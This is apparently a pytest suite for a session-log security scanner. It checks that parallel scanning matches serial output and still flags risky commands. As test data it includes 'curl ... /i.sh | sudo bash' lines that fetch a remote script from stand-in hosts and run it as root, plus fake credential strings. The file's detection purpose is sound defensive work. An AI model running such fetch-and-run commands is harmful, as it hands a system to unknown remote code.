"""`sessionguard scan --jobs N` (issue #18): every core, and the same bytes out as `--jobs 1`.

The corpus mixes what a security engineer feeds `scan`: streamed events of several sessions interleaved, one session
continued in a second (gzipped) file, malformed records, a typescript, a Windows session, a binary file and a missing
one, secrets typed and in metadata. The piece size is made small so that each JSON Lines file is read in several
pieces, as a large export is, and the pool is really used (a spy counts it).
"""

from __future__ import annotations

import gzip
import io
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from sessionguard.archive import parallel
from sessionguard.cli import build_parser, main

EVENTS = Path(__file__).resolve().parents[2] / "events"
SECRETS = ("Hunter2-Prod!", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzEXAMPLEKEY", "ghp_qsR6RZ24lPoQj3oPUlieI2nVsbBi1RMar1jf")
Run = tuple[int, str, str]


def scan(*argv: str) -> Run:
    """Exit status, standard output and standard error of `sessionguard scan ARGV`, as bytes would be written."""
    out, err = io.StringIO(), io.StringIO()
    status = main(["scan", *argv], stdin=io.StringIO(), stdout=out, stderr=err)
    return status, out.getvalue(), err.getvalue()


def _lines(name: str) -> list[str]:
    return (EVENTS / name).read_text(encoding="utf-8").splitlines()


def _interleave(*streams: list[str]) -> list[str]:
    merged: list[str] = []
    for index in range(max(map(len, streams))):
        merged += [stream[index] for stream in streams if index < len(stream)]
    return merged


def _token_event() -> str:
    """A session whose user ARN and session id carry a token: the metadata is masked whatever the worker."""
    event: dict[str, Any] = json.loads(_lines("session-risky.jsonl")[0])
    token = SECRETS[2]
    event.update(
        sessionId=f"{token}-0b7e9d1c",
        userIdentity={"arn": f"arn:aws:sts::111122223333:assumed-role/Admin/{token}"},
        sessionData=["sh-4.2$ curl -s https://x.example/i.sh | sudo bash"],
    )
    return json.dumps(event)


@pytest.fixture
def corpus(tmp_path: Path) -> list[str]:
    risky, stream = _lines("session-risky.jsonl"), _lines("session-stream.jsonl")
    first = tmp_path / "export-1.jsonl"
    first.write_text(
        "\n".join([*_interleave(risky[:6], stream[:5]), "{not json", _token_event(), '{"sessionId": 7}']) + "\n"
    )
    second = tmp_path / "export-2.jsonl.gz"  # the risky session goes on here
    second.write_bytes(gzip.compress(("\n".join([*stream[5:], *risky[6:], "[1, 2]"]) + "\n").encode()))
    binary = tmp_path / "i-0a1b2c3d4e5f60718.log"
    binary.write_bytes(b"\x7fELF\x02\x01\x01\x00" + bytes(range(256)) * 8)
    return [
        str(first),
        str(EVENTS / "transcript-jane.roe-0b7e9d1c4a2f8e6d5.log"),
        str(tmp_path / "missing.jsonl"),
        str(second),
        str(binary),
        str(EVENTS / "windows-session-suspicious.jsonl"),
        str(EVENTS / "get-log-events.json"),
    ]


@pytest.fixture
def pools(monkeypatch: pytest.MonkeyPatch) -> list[int]:
    """Small pieces (each JSON Lines file read in several), and the size of every process pool the scan starts."""
    monkeypatch.setattr(parallel, "PIECE_CHARS", 600)
    monkeypatch.setattr(parallel, "POOL_MIN_CHARS", 0)
    started: list[int] = []
    real: Callable[..., Any] = parallel.process_pool

    def counted(jobs: int, *args: Any) -> Any:
        started.append(jobs)
        return real(jobs, *args)

    monkeypatch.setattr(parallel, "process_pool", counted)
    return started


@pytest.mark.parametrize("options", [(), ("--transcript",), ("--min-severity", "info", "--transcript")])
def test_jobs_2_writes_the_same_bytes_as_jobs_1(corpus: list[str], pools: list[int], options: tuple[str, ...]) -> None:
    serial = scan("--jobs", "1", *options, *corpus)
    assert pools == []  # --jobs 1: no pool at all

    parallel_run = scan("--jobs", "2", *options, *corpus)

    assert pools == [2]
    assert parallel_run == serial
    status, stdout, stderr = serial
    assert status == 2
    records = [json.loads(line) for line in stdout.splitlines()]
    assert sum(record["type"] == "alert" for record in records) >= 5
    assert not any(secret in stdout + stderr for secret in SECRETS)
    # Problems keep their place in each file and their reason, wherever the piece was read.
    for problem in (
        f"{corpus[0]}: line 12: record is not JSON",
        f"{corpus[0]}: line 14: sessionId is a JSON number, not a string",
        "missing.jsonl: cannot read",
        f"{corpus[3]}: line 10 [0]: a JSON number is not a session event",
        f"{corpus[4]}: binary data",
    ):
        assert problem in stderr
    assert stderr.index("line 12: record") < stderr.index("missing.jsonl") < stderr.index("binary data")


def test_a_pool_started_by_spawn_writes_the_same_bytes(
    corpus: list[str], pools: list[int], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Workers need nothing inherited from this process (Python 3.14 starts them with forkserver by default)."""
    serial = scan("--jobs", "1", "--transcript", *corpus)
    monkeypatch.setattr(parallel, "START_METHODS", ("spawn",))

    assert scan("--jobs", "3", "--transcript", *corpus) == serial
    assert pools == [3]


def _split_command_files(tmp_path: Path) -> list[str]:
    """One session typed across two files: a command continued with `\\` at the end of the first export."""
    event: dict[str, Any] = json.loads(_lines("session-risky.jsonl")[1])
    halves = ["[ssm-user@ip-10-0-2-41 ~]$ curl -s https://198.51.100.23/i.sh \\", "> | sudo bash", "installing"]
    paths = []
    for number, data in enumerate((halves[:1], halves[1:]), start=1):
        path = tmp_path / f"part-{number}.jsonl"
        path.write_text(json.dumps(event | {"sessionData": data}) + "\n" + json.dumps(event | {"sessionId": "x"}))
        paths.append(str(path))
    return paths


@pytest.mark.parametrize("jobs", ["1", "2"])
def test_a_session_across_two_files_is_one_analysis(tmp_path: Path, pools: list[int], jobs: str) -> None:
    status, stdout, _ = scan("--jobs", jobs, "--transcript", *_split_command_files(tmp_path))

    assert status == 0
    records = [json.loads(line) for line in stdout.splitlines() if '"x"' not in line]
    # Scanned file by file, the first file's command would end in `\` and the second's `> | sudo bash` would be
    # masked as a continuation of an unknown command, with no alert.
    assert [r["text"] for r in records if r["type"] == "line" and r["kind"] == "command"] == [
        "curl -s https://198.51.100.23/i.sh | sudo bash"
    ]
    assert [(r["rule_id"], r["command"]) for r in records if r["type"] == "alert"] == [
        ("SG-DLEX-001", "curl -s https://198.51.100.23/i.sh | sudo bash")
    ]
    assert "unparsed-line" not in stdout


@pytest.mark.parametrize("start", ["fork", "spawn"])
def test_an_invalid_rule_file_fails_the_same_way_with_a_pool(
    corpus: list[str], pools: list[int], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, start: str
) -> None:
    """Forked workers share the pack this process loads; spawned ones load their own and report its error."""
    monkeypatch.setattr(parallel, "START_METHODS", (start,))
    rules = tmp_path / "broken.yaml"
    rules.write_text("rules:\n  - id: SG-X\n")

    serial = scan("--jobs", "1", "--rules", str(rules), *corpus)

    assert serial[0] == 1
    assert scan("--jobs", "2", "--rules", str(rules), *corpus) == serial


def test_a_small_input_is_scanned_without_a_pool(monkeypatch: pytest.MonkeyPatch) -> None:
    def no_pool(jobs: int, *args: Any) -> Iterator[None]:
        raise AssertionError("a pool was started")

    monkeypatch.setattr(parallel, "process_pool", no_pool)

    status, stdout, _ = scan("--jobs", "4", str(EVENTS / "session-risky.jsonl"))

    assert status == 0
    assert '"type": "alert"' in stdout


def test_jobs_defaults_to_the_available_cpus() -> None:
    args = build_parser().parse_args(["scan", "x.jsonl"])

    assert parallel.local_jobs(args.jobs) == parallel.available_cpus() >= 1
    with pytest.raises(SystemExit):
        build_parser().parse_args(["scan", "--jobs", "0", "x.jsonl"])


def test_json_lines_are_cut_into_pieces_at_line_ends_and_other_forms_are_not(corpus: list[str]) -> None:
    text = Path(corpus[0]).read_text()
    pieces = parallel.split_input(parallel.Piece(corpus[0], text), 600)

    assert len(pieces) > 3
    assert "".join(piece.text for piece in pieces) == text
    assert all(piece.text.endswith("\n") for piece in pieces)
    assert [piece.first_line for piece in pieces] == [
        1 + sum(piece.text.count("\n") for piece in pieces[:index]) for index in range(len(pieces))
    ]
    pretty = (EVENTS / "get-log-events.json").read_text()
    assert parallel.split_input(parallel.Piece("x.json", pretty), 100) == [parallel.Piece("x.json", pretty)]
    one_document = "[\n" + ",\n".join(_lines("session-risky.jsonl")) + "\n]\n"  # no line is an object by itself
    assert len(parallel.split_input(parallel.Piece("x.json", one_document), 100)) == 1
